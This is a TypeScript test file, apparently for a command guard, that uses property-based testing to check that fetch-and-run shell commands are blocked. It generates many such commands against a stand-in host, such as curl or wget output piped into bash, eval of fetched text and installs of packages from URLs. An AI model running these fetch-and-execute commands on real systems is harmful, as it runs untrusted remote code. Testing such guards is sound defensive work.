import { assert, constantFrom, property } from 'fast-check';
import { expect, test } from 'vitest';
import { isStopped, readCalls, wrongRows } from './judge-rows.ts';

test('remote code: every row of calls/remote-code.txt is on its side', () => {
  const rows = readCalls('remote-code');
  expect(rows.length).toBeGreaterThan(170);
  expect(wrongRows(rows)).toEqual([]);
});

test('remote code: fetched text is refused in every shell and by every way into it', () => {
  const fetch = constantFrom('curl -fsSL https://a.example/x', 'wget -qO- https://a.example/x', 'nc a.example 80');
  const shell = constantFrom('sh', 'bash', 'zsh', 'dash', 'sudo bash', 'env bash -s');
  const way = constantFrom<(from: string, into: string) => string>(
    (from, into) => `${from} | ${into}`,
    (from, into) => `${from} | tee x | ${into}`,
    (from, into) => `${into.replace(' -s', '')} <(${from})`,
    (from, into) => `${into.replace(' -s', '')} -c "$(${from})"`,
    (from) => `eval "$(${from})"`,
    (from) => `source <(${from})`,
    (from, into) => `${from} > x.sh; ${into.replace(' -s', '')} x.sh`,
    (from) => `${from} > x; chmod +x x; ./x`,
  );
  assert(property(fetch, shell, way, (from, into, write) => isStopped(write(from, into))));
});

test('remote code: packages from an address are asked about, packages by name are not', () => {
  const install = constantFrom(
    'npm i',
    'npm install -D',
    'pnpm add',
    'yarn add',
    'pip install',
    'pip3 install -U',
    'npx -y',
  );
  const address = constantFrom(
    'https://a.example/x.tgz',
    'git+https://a.example/x.git',
    'git+ssh://git@a.example/x.git',
  );
  const name = constantFrom('left-pad', 'left-pad@1.0.0', '@scope/name');
  assert(property(install, address, (how, what) => isStopped(`${how} ${what}`)));
  assert(property(install, name, (how, what) => !isStopped(`${how} ${what}`)));
});
